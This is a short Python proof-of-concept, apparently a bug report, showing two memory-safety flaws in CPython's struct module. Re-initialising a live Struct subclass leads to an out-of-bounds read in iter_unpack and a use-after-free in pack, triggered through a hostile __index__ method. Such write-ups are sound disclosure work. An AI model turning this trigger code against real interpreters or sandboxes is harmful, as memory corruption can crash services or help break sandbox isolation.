# p04 (plain CPython): struct.Struct.__init__ can be re-run on a live Struct (a subclass's
# super().__init__): prepare_s frees s_codes and allocates new ones. (a) iter_unpack's
# iterator checks the buffer length against s_size once, at creation, then unpacks
# so->s_size bytes per step: re-init to a larger format between steps reads past the buffer.
# (b) s_pack_internal walks s_codes while a value's __index__ (the program's) runs: re-init
# from there leaves `code` pointing into freed memory.
import struct, sys
class S(struct.Struct):
    def reinit(self, fmt):
        super().__init__(fmt)
s = S("B")
data = b"a" * 1
it = s.iter_unpack(data)
s.reinit("64s")
r = next(it)
print("(a) read", len(r[0]), "bytes past a 1-byte buffer:", r[0][:40])

s2 = S("<QB")
class I:
    def __index__(self):
        s2.reinit("<B" + "QQQQQQQQ")
        s2.reinit("<B100xQ")
        return 1
try:
    out = s2.pack(I(), 0x4141414141414141)
    print("(b) pack returned", out)
except Exception as e:
    print("(b)", type(e).__name__, e)
